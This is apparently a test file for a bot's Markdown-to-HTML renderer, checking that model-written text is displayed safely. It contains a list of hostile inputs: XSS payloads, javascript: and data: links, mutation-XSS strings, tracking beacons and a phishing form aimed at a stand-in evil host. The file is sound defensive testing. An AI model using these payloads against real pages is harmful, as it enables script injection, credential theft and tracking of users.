"""What a model writes is shown well and can do nothing."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.platforms.local.markdown import RENDER_CHARS, Markdown
from tests.thorough import some

MARKDOWN = Markdown()
ALLOWED = {
    "a": {"href", "rel", "target"},
    "ol": {"start"},
    "pre": {"data-language"},
    "span": {"class"},
    "td": {"class"},
    "th": {"class"},
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/session)",
    "[x](https://good.example@evil.example/)",
    "[x](https://evil.example\\@good.example/)",
    "![beacon](https://evil.example/pixel.png?who=you)",
    "[![beacon](https://evil.example/p.png)](https://evil.example)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    '<https://evil.example/" onmouseover="alert(1)>',
    "<javascript:alert(1)>",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '[x](https://a.example "\\" onclick=\\"alert(1)")',
    "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
    "> <div style='position:fixed;inset:0'>",
    "# <a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    'https://evil.example/"onmouseover=alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "- " * 200 + "<script>alert(1)</script>",
    "&#x3C;script>alert(1)</script>",
]


class Elements(HTMLParser):
    """Collects what a browser would make of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag not in {"script", "style", "img", "svg", "iframe", "form", "input", "button", "object", "math"}
        assert set(attributes) <= ALLOWED.get(tag, set())
        if tag == "a":
            assert re.match(r"(https?://[a-z0-9.\[\]:_-]+(/|\?|#|$)|mailto:)", attributes["href"] or "", re.IGNORECASE)
            assert attributes["target"] == "_blank"
            assert {"noopener", "nofollow"} <= set((attributes["rel"] or "").split())


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_harmless(text: str) -> None:
    check_harmless(MARKDOWN.render(text))


@given(
    st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "*", "`", "[", "](", ")", "|", "```\n"])).map("".join)
)
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_hostile_pieces_gets_through(text: str) -> None:
    check_harmless(MARKDOWN.render(text))


@given(st.text(alphabet=st.sampled_from("[]()<>!`*_|~-#:\"'&;\\/ \nhtpsjavcripéא"), max_size=120))
@settings(max_examples=200, deadline=None)
def test_no_jumble_of_signs_gets_through(text: str) -> None:
    check_harmless(MARKDOWN.render(text))


def test_html_of_the_model_is_shown_as_text() -> None:
    html = MARKDOWN.render("Use <b>bold</b> & <script>x</script>")
    assert Elements(html).text.strip() == "Use <b>bold</b> & <script>x</script>"


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[the park](https://evil.example/login)", "(evil.example)"),
        ("[https://good.example](https://evil.example)", "(evil.example)"),
        ("[good.example](https://evil.example:8443/x)", "(evil.example:8443)"),
        ("[apple](https://аpple.example)", "(xn--pple-43d.example)"),
        ("[write](mailto:someone@evil.example)", "(someone@evil.example)"),
        ("[**bold** `code`](https://evil.example)", "(evil.example)"),
    ],
)
def test_a_link_that_hides_where_it_leads_prints_its_host(text: str, host: str) -> None:
    assert host in Elements(MARKDOWN.render(text)).text


@pytest.mark.parametrize(
    "text", ["https://cove.example/a", "<https://cove.example/a>", "[cove.example](https://cove.example)"]
)
def test_a_link_that_says_where_it_leads_stands_alone(text: str) -> None:
    html = MARKDOWN.render(text)
    assert "host" not in html
    assert 'href="https://cove.example' in html


def test_bare_addresses_end_where_the_sentence_does() -> None:
    html = MARKDOWN.render("See https://a.example/x_(y). Or (https://b.example/z), or `https://c.example`.")
    links = [attributes["href"] for tag, attributes in Elements(html).found if tag == "a"]
    assert links == ["https://a.example/x_(y)", "https://b.example/z"]


def test_everyday_markdown_looks_as_on_discord() -> None:
    html = MARKDOWN.render("one\ntwo\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```py\nx < 1\n```\n~~gone~~")
    assert "one<br>" in html
    assert '<td class="right">2</td>' in html
    assert '<pre data-language="py"><code>x &lt; 1\n</code></pre>' in html
    assert "<s>gone</s>" in html


def test_an_unclosed_fence_is_already_code_while_it_grows() -> None:
    assert MARKDOWN.render("```py\nprint(").startswith('<pre data-language="py"><code>print(')


def test_a_text_that_is_too_long_to_parse_is_shown_plain() -> None:
    html = MARKDOWN.render("<b>" + "*a* " * RENDER_CHARS)
    assert html.startswith("<pre>&lt;b&gt;*a* ")


UNITS = ("[", "*a ", "![", "[a](", "> ", "~~a", "`` ` ", "https://a.b/ ", "<a ", "&#", "_a", "|-")


@pytest.mark.parametrize("unit", some(UNITS, ("[", "> ", "https://a.b/ ", "|-")))
def test_no_text_takes_for_ever(unit: str) -> None:
    begun = time.process_time()
    check_harmless(MARKDOWN.render(unit * (RENDER_CHARS // len(unit))))
    assert time.process_time() - begun < 20  # seconds; the slowest takes two


def test_small_lines_are_small_and_their_links_work() -> None:
    shown = MARKDOWN.render("Yes.\n\n-# [1] One — [a.example](<https://a.example/1>)\n-# [2] Two\nnot small")
    assert shown.count('<span class="small">') == 2
    assert 'href="https://a.example/1"' in shown
    assert "-#" not in shown
    assert shown.index("</span>") < shown.index("not small")


def test_a_moment_in_discord_s_marks_is_one_that_the_page_can_write_in_the_reader_s_zone() -> None:
    shown = Markdown().render("since <t:1795420830:f>, **<t:0>**, not `<t:5:f>` nor <t:999999999999>")
    assert '<time datetime="2026-11-23T08:00:30+00:00">2026-11-23 08:00 UTC</time>' in shown
    assert '<strong><time datetime="1970-01-01T00:00:00+00:00">' in shown
    assert "<code>&lt;t:5:f&gt;</code>" in shown
    assert "&lt;t:999999999999&gt;" in shown


def test_addresses_of_the_page_s_own_messages_are_links_and_nothing_else_on_the_page_is() -> None:
    html = Markdown().render("[↗](</#general/m1-a%20b>) [x](/leave) [y](#general/m1) [z](//evil.example/#a/b)")
    assert [attributes["href"] for tag, attributes in Elements(html).found if tag == "a"] == ["/#general/m1-a%20b"]
